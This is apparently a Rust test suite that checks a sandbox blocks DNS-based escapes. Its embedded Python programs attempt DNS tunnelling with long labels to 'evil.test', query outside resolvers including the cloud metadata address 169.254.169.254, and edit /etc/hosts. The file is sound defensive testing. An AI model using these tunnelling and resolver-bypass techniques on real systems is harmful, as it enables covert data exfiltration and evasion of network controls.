//! Attacks that use the resolver as a way out, from inside a real sandbox. Nothing is ever asked outside for the
//! sake of a question: only a connection that is allowed has its name looked up.

use std::sync::atomic::Ordering;

use crate::ground::{OTHER, SERVER, limited, on_ground, python, unrestricted};

/// Asks and prints the answer's code, its number of records, and its data in hex.
const ASK: &str = "def name(n): return b''.join(bytes([len(l)]) + l.encode() for l in n.split('.')) + b'\\0'\n\
    def query(n, kind, raw=None): return struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + (raw or name(n)) + struct.pack('>HH', kind, 1)\n\
    def read(a): return (a[3] & 15, struct.unpack('>H', a[6:8])[0], a[-4:].hex() if a[7] else '')\n\
    def ask(n, kind, to='198.19.255.53', port=53, raw=None):\n    \
        def go():\n        \
            s = socket.socket(socket.AF_INET6 if ':' in to else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\n        \
            s.connect((to, port)); s.send(query(n, kind, raw)); return read(s.recv(2048))\n    \
        return tried(go)\n";

#[test]
fn every_name_has_a_virtual_address_and_none_is_asked_for_outside() {
    on_ground(limited(&["allowed.test"]), |ground| async move {
        let sandbox = ground.sandbox("virtual").await;
        let program = "a = lambda n: sorted({i[4][0] for i in socket.getaddrinfo(n, 80)})\n\
            print(a('allowed.test'), a('denied.test'), a('ALLOWED.test.') == a('allowed.test'))\n";
        let said = python(&sandbox, program).await;
        assert_eq!(
            said,
            "['198.18.0.1', 'fd6c:6e67:6864::1'] ['198.18.0.2', 'fd6c:6e67:6864::2'] True"
        );
        assert_eq!(ground.lookups.load(Ordering::SeqCst), 0);
    });
}

#[test]
fn a_tunnel_through_long_labels_or_other_records_reaches_nobody() {
    on_ground(unrestricted(), |ground| async move {
        let (udp, tcp) = (
            ground.serve(SERVER, 53, |_| Vec::new()),
            ground.serve(OTHER, 53, |_| Vec::new()),
        );
        let sandbox = ground.sandbox("tunnel").await;
        let program = format!(
            "{ASK}print(ask('a' * 63 + '.' + 'b' * 63 + '.' + 'c' * 63 + '.evil.test', 1)[:2])\n\
             print([ask('evil.test', kind)[:2] for kind in (16, 10, 15, 33, 64, 65, 12, 2, 6)])\n\
             print([ask('evil.test', kind)[:2] for kind in (255, 252, 251)])\n"
        );
        let said = python(&sandbox, &program).await;
        let empty = ["(0, 0)"; 9].join(", ");
        assert_eq!(said, format!("(0, 1)\n[{empty}]\n[(5, 0), (5, 0), (5, 0)]"));
        ground.denied("evil.test", "dns").await;
        assert_eq!(ground.lookups.load(Ordering::SeqCst), 0);
        assert_eq!((udp.connections(), tcp.connections()), (0, 0));
    });
}

#[test]
pub fn another_resolver_is_ours_over_udp_and_tcp_and_both_families() {
    on_ground(unrestricted(), |ground| async move {
        let server = ground.serve(SERVER, 53, |_| b"the resolver outside".to_vec());
        let sandbox = ground.sandbox("resolver").await;
        let program = format!(
            "{ASK}print([ask('evil.test', 1, to) for to in ('8.8.8.8', '{SERVER}', '2001:db8::53', '169.254.169.254')])\n\
             def tcp53(to):\n    \
                 s = socket.create_connection((to, 53), timeout=5); q = query('evil.test', 1)\n    \
                 s.sendall(struct.pack('>H', len(q)) + q); return read(s.recv(2048)[2:])\n\
             print([tcp53(to) for to in ('8.8.8.8', '{SERVER}', '2001:db8::53')])\n"
        );
        let said = python(&sandbox, &program).await;
        let one = "(0, 1, 'c6120001')";
        assert_eq!(
            said,
            format!("[{one}, {one}, {one}, {one}]\n[{one}, {one}, {one}]")
        );
        assert_eq!(server.connections(), 0);
    });
}

#[test]
fn a_name_in_etc_hosts_changes_only_what_the_sandbox_believes() {
    on_ground(limited(&["allowed.test"]), |ground| async move {
        let server = ground.serve(OTHER, 443, |_| Vec::new());
        let sandbox = ground.sandbox("hosts").await;
        let program = format!(
            "open('/etc/hosts', 'a').write('{OTHER} allowed.test\\n')\n\
             print(tls('allowed.test'), tls('{OTHER}', name='allowed.test'))\n"
        );
        let said = python(&sandbox, &program).await;
        assert_eq!(said, "TLSV1_ALERT_ACCESS_DENIED TLSV1_ALERT_ACCESS_DENIED");
        ground.denied(OTHER, "default").await;
        assert_eq!(server.connections(), 0);
    });
}

#[test]
fn a_virtual_address_that_was_never_given_out_leads_nowhere() {
    on_ground(unrestricted(), |ground| async move {
        let sandbox = ground.sandbox("nowhere").await;
        let program = "print(tcp('198.18.77.7', 80, b'GET / HTTP/1.1\\r\\n\\r\\n'), tcp('fd6c:6e67:6864::777', 443))";
        assert_eq!(python(&sandbox, program).await, "ECONNRESET ECONNRESET");
        ground.denied("198.18.77.7", "always-denied").await;
    });
}
